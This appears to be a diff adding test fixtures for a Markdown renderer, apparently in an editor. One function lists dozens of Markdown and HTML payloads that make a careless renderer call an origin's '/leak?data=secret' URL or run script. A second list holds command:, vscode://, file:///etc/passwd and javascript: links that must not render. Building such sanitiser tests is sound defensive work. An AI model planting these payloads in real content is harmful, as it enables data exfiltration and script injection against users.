@@ -1,0 +1,67 @@
+/**
+ * Texts that would make a careless renderer ask the network, run a script, or offer a link that is none.
+ *
+ * @param origin where they try to reach
+ */
+export function hostileTexts(origin: string): string[] {
+  const url = `${origin}/leak?data=secret`;
+  return [
+    `![inline](${url})`,
+    `![reference][r]\n\n[r]: ${url}`,
+    `![shortcut]\n\n[shortcut]: <${url}> "t"`,
+    `![collapsed][]\n\n[collapsed]: ${url}`,
+    `[![nested](${url})](${url})`,
+    `| ![in table](${url}) |\n|---|\n| ![in cell](${url}) |`,
+    `- ![in list](${url})\n> ![in quote](${url})`,
+    `![x](//${new URL(origin).host}/leak)`,
+    `<img src="${url}">`,
+    `<img srcset="${url} 1x, ${url}&b 2x">`,
+    `<picture><source srcset="${url}"><img></picture>`,
+    `<video poster="${url}" src="${url}" autoplay></video>`,
+    `<audio src="${url}" autoplay></audio>`,
+    `<svg><image href="${url}"/><feImage href="${url}"/><use href="${url}#a"/><script href="${url}"></script></svg>`,
+    `<math><mtext><img src="${url}"></mtext></math>`,
+    `<div style="background:url(${url})">x</div>`,
+    `<style>@import "${url}"; body { background: url(${url}) }</style>`,
+    `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
+    `<input type="image" src="${url}">`,
+    `<form action="${url}"><button autofocus formaction="${url}">go</button></form>`,
+    `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
+    `<link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}"><base href="${origin}/">`,
+    `<script src="${url}"></script><script>fetch("${url}")</script>`,
+    `<img src=x onerror="fetch('${url}')"><body onload="fetch('${url}')">`,
+    `<meta http-equiv="refresh" content="0;url=${url}">`,
+    `<a href="javascript:fetch('${url}')" ping="${url}">x</a>`,
+    `<details open ontoggle="fetch('${url}')">x</details>`,
+    `<noscript><p title="</noscript><img src=${url}>">`,
+    `<svg></p><style><a id="</style><img src=${url}>">`,
+    `\`\`\`"><img/src=${url}>\n\`\`\``,
+    `\`\`\`mermaid\ngraph TD; A["<img src='${url}'>"] --> B\n\`\`\``,
+    `\`<img src="${url}">\``,
+    `<${url}/"><img/src="${url}">`,
+    `[x](${url}"onmouseover="fetch)`,
+  ];
+}
+
+/** Links that must not be links. */
+export const badLinks: readonly string[] = [
+  '[run](command:workbench.action.terminal.new)',
+  '[run](<command:x?%5B%5D>)',
+  '[open](vscode://file/etc/passwd)',
+  '[open](vscode-insiders:extension)',
+  '[open](file:///etc/passwd)',
+  '[open](\\\\\\\\server\\\\share)',
+  '[data](data:text/html;base64,PHNjcmlwdD4=)',
+  '[relative](//example.com/x)',
+  '[relative](./src/a.ts)',
+  '[script](javascript:alert(1))',
+  '[script](JaVaScRiPt:alert(1))',
+  '[script](&#106;avascript:alert(1))',
+  '[mail](mailto:a@example.com)',
+  '[blob](blob:https://example.com/1)',
+  '[web](https:/example.com)',
+  '[web](http:)',
+  '[by reference][evil]\n\n[evil]: command:run',
+  '<command:run> <vscode://x> <javascript:alert(1)>',
+  'a@example.com ftp://example.com //example.com',
+];
